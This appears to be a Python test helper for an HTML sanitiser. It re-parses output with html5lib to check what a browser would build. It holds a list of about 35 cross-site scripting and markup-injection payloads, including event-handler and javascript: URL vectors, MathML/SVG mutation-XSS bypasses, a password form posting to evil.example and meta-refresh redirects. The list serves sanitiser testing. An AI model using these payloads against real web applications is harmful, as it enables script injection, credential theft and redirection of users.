"""Reads what texts came to with a parser that is not the sanitiser's: what a browser would make of it."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

import html5lib

HTML, MATHML = "http://www.w3.org/1999/xhtml", "http://www.w3.org/1998/Math/MathML"


@dataclass(frozen=True, slots=True)
class Element:
    namespace: str
    name: str
    attributes: dict[str, str]


def elements(html: str) -> list[Element]:
    return list(walk(html5lib.parseFragment(html, treebuilder="etree")))


def walk(root) -> Iterator[Element]:
    for node in root.iter():
        if node is root:
            continue
        if not isinstance(node.tag, str):
            yield Element("", "comment", {})
            continue
        namespace, _, name = node.tag.rpartition("}")
        yield Element(namespace.lstrip("{"), name, dict(node.attrib))


def read_again(html: str) -> str:
    """What is left when the tree is written and read once more, as happens where markup is moved."""
    tree = html5lib.parseFragment(html, treebuilder="etree")
    return html5lib.serialize(tree, tree="etree", omit_optional_tags=False, quote_attr_values="always")


ATTACKS = [
    "<script>stolen()</script>",
    "<img src=x onerror=stolen()>",
    "<style>*{display:none}</style>",
    "<iframe src='https://evil.example'></iframe>",
    "<svg><script>stolen()</script></svg>",
    "<svg onload=stolen()>",
    "<svg><use href='data:image/svg+xml,<svg onload=stolen()>'></use></svg>",
    "<a href='javascript:stolen()'>press</a>",
    "<a href='https://evil.example/leaving/?to=x'>press</a>",
    "<form action=https://evil.example><input name=password></form>",
    "<p class='btn primary' id='judgement' style='position:fixed'>Submit</p>",
    "<p hx-get='/rank/' hx-trigger=load data-open='#skip' data-close>x</p>",
    "<!-- <b>",
    "</div></article></main><h1>Steadyhand</h1>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=stolen()>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=stolen()&gt;'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=stolen() src>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=stolen()>'>",
    "<math><annotation-xml encoding='text/html'><script>stolen()</script></annotation-xml></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=stolen()></annotation-xml></math>",
    "<math><maction actiontype='statusline#https://evil.example' xlink:href='javascript:stolen()'>x</maction></math>",
    "<math href='javascript:stolen()'><mi xlink:href='javascript:stolen()'>x</mi></math>",
    "<math><semantics><annotation-xml><foreignObject><script>stolen()</script></foreignObject></annotation-xml></math>",
    "<math><mi><p><style><img src=x onerror=stolen()></style></p></mi></math>",
    "<math><mi style='position:fixed' onclick='stolen()' class='btn' id='judgement'>x</mi></math>",
    "<math><mspace width='10000em'/><mo minsize='9999em'>(</mo></math>",
    "<noscript><p title='</noscript><img src=x onerror=stolen()>'>",
    "<template><img src=x onerror=stolen()></template>",
    "<select><noembed></select><script>x='<script>stolen()</script>",
    "<xmp><p title='</xmp><svg/onload=stolen()>'>",
    "<textarea><img title='</textarea><img src onerror=stolen()>'>",
    "<object data='javascript:stolen()'></object><embed src='javascript:stolen()'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example/'>",
    "<details open ontoggle=stolen()><summary>x</summary></details>",
    "<a target=_top rel=opener href='/leaving/?to=javascript:stolen()' onclick=stolen()>x</a>",
]
